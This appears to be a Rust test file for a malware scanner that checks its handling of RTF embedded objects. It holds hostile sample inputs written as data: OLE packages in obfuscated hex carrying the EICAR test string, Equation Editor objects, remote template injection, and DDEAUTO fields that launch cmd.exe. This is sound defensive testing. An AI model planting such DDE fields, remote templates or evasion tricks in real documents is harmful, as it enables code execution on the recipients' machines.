//! RTF embedded objects: `\objdata` decoded as Word decodes it (whitespace,
//! control words and `{\*\...}` groups inside the hex, odd nibbles, `\bin`),
//! OLE1 objects and the files they package, Equation Editor objects.

use crate::ole_writer::*;
use crate::util::*;
use xferscan::Verdict;

#[test]
fn a_packaged_file_in_obfuscated_hex_is_found_by_name() {
    let obj = ole1(
        "Package",
        &package("a.txt", "C:\\Users\\x\\a.txt", &eicar()),
    );
    for data in [hex(&obj), ugly_hex(&obj)] {
        let r = scan("letter.rtf", rtf_with_object("Package", &data));
        let (path, _) = deepest(&r);
        assert_eq!(path.name(), "a.txt", "{:?}", keys(&r));
        assert!(has_key(&r, "document.rtf.object"));
        assert_eq!(r.verdict, Verdict::Malicious);
    }
}

#[test]
fn an_rtf_with_a_truncated_header_is_still_rtf() {
    let obj = ole1("Package", &package("a.txt", "a.txt", &eicar()));
    let mut rtf = rtf_with_object("Package", &hex(&obj));
    // "{\rt" and no more of the word: Word opens it.
    rtf.drain(4..6);
    assert!(rtf.starts_with(b"{\\rt\\ansi"));
    let r = scan("x.doc", rtf);
    assert_eq!(r.objects[0].types[0].ty.name(), "rtf");
    assert!(found_eicar(&r));
}

#[test]
fn an_embedded_compound_file_is_opened() {
    let doc = compound(&[("/WordDocument", &[0xec, 0xa5][..]), ("/Data", &eicar())]);
    let obj = ole1("Word.Document.8", &doc);
    let r = scan("a.rtf", rtf_with_object("Word.Document.8", &ugly_hex(&obj)));
    let (path, _) = deepest(&r);
    assert_eq!(path.name(), "Data", "{:?}", keys(&r));
    assert_eq!(path.names().len(), 3);
    assert!(!has_key(&r, "document.equation"));
}

#[test]
fn bin_runs_carry_raw_object_bytes() {
    let obj = ole1("Package", &package("b.txt", "b.txt", &eicar()));
    let (a, b) = obj.split_at(20);
    let mut rtf = b"{\\rtf1{\\object{\\*\\objdata ".to_vec();
    rtf.extend_from_slice(hex(a).as_bytes());
    rtf.extend_from_slice(format!("\\bin{} ", b.len()).as_bytes());
    rtf.extend_from_slice(b);
    rtf.extend_from_slice(b"}}}");
    let r = scan("bin.rtf", rtf);
    let (path, _) = deepest(&r);
    assert_eq!(path.name(), "b.txt", "{:?}", keys(&r));
}

#[test]
fn an_equation_object_is_blocked() {
    let obj = ole1("Equation.3", &[0x1c, 0, 0, 0, 2, 0, 0x9e, 0xc4]);
    let r = scan("cv.rtf", rtf_with_object("Equation.3", &hex(&obj)));
    assert!(has_key(&r, "document.equation"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    // The class hidden from \objclass: the OLE1 header still says it.
    let r = scan("cv.rtf", rtf_with_object("Word.Picture.8", &ugly_hex(&obj)));
    assert!(has_key(&r, "document.equation"), "{:?}", keys(&r));
}

#[test]
fn an_object_alone_is_flagged_and_images_and_text_are_clean() {
    let obj = ole1("Excel.Sheet.8", b"not really a workbook");
    let r = scan("a.rtf", rtf_with_object("Excel.Sheet.8", &hex(&obj)));
    assert!(has_key(&r, "document.rtf.object"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Suspicious);
    let png = hex(&tiny_png());
    let rtf = format!(
        "{{\\rtf1\\ansi\\deff0{{\\fonttbl{{\\f0\\froman Times;}}}}{{\\colortbl;\\red255\\green0\\blue0;}}\
         \\pard\\b Bold\\b0  and {{\\i italic}} text, \\'e9t\\'e9.\\par\
         {{\\pict\\pngblip\\picw10\\pich10 {png}}}\\par}}"
    );
    assert_clean(&scan("pretty.rtf", rtf.into_bytes()));
}

/// RTF template injection: Word fetches `{\*\template ...}` from another
/// machine as the document opens; a local template is ordinary.
#[test]
fn a_remote_template_is_flagged_and_a_local_one_is_not() {
    for rtf in [
        &b"{\\rtf1\\ansi{\\*\\template http://203.0.113.7/t.dotm}{\\fonttbl{\\f0 Arial;}}\\f0 Hello\\par}"[..],
        b"{\\rtf1{\\*\\template \\'5c\\'5c203.0.113.7{\\*\\x y}\\\\share\\\\t.dotm}Hello\\par}",
    ] {
        let r = scan("letter.rtf", rtf.to_vec());
        assert!(has_key(&r, "document.remote_template"), "{:?}", keys(&r));
        assert_ne!(r.verdict, Verdict::Clean);
    }
    let local = b"{\\rtf1{\\*\\template C:\\\\Users\\\\me\\\\Templates\\\\Normal.dotm}Hello\\par}";
    assert_clean(&scan("letter.rtf", local.to_vec()));
}

/// A DDE field in RTF runs its command as Word opens the document, as the
/// same field in a docx does (the 2017 DDEAUTO campaigns used both).
#[test]
fn a_dde_field_in_rtf_is_read_as_in_a_docx() {
    for rtf in [
        &b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}{\\fldrslt x}}}"[..],
        b"{\\rtf1{\\field{\\*\\fldinst {\\rtlch DD}{E\\'41UTO} cmd.exe \"/c calc\"}{\\fldrslt x}}}",
    ] {
        let r = scan("memo.rtf", rtf.to_vec());
        assert!(has_key(&r, "document.dde.command"), "{:?}", keys(&r));
        assert_eq!(r.verdict, Verdict::Malicious);
    }
    // Control: ordinary fields.
    let r = scan(
        "memo.rtf",
        b"{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} {\\field{\\*\\fldinst HYPERLINK \"https://example.com\"}{\\fldrslt x}}}".to_vec(),
    );
    assert_clean(&r);
}

/// Word reads the text of plain groups inside `\objdata` as its data, and
/// drops a digit left odd before a `\'hh` (oletools' rtfobj emulates
/// both): each hides the object from a reader that does neither.
#[test]
fn an_object_as_word_reads_it_is_opened() {
    let obj = ole1(
        "Package",
        &package("a.txt", "C:\\Users\\x\\a.txt", &eicar()),
    );
    let h = hex(&obj);
    // Every 16 digits, half in a plain group; or a junk digit and an
    // escape.
    let mut groups = String::new();
    let mut bug = String::new();
    for (i, chunk) in h.as_bytes().chunks(16).enumerate() {
        let chunk = std::str::from_utf8(chunk).unwrap();
        if i % 2 == 0 {
            groups.push_str(&format!("{{{chunk}}}"));
        } else {
            groups.push_str(chunk);
        }
        bug.push_str(chunk);
        if chunk.len() == 16 {
            bug.push_str("f\\'41");
        }
    }
    for data in [groups, bug] {
        let r = scan("letter.rtf", rtf_with_object("Package", &data));
        assert!(found_eicar(&r), "{:?}", keys(&r));
        assert_eq!(r.verdict, Verdict::Malicious);
    }
}
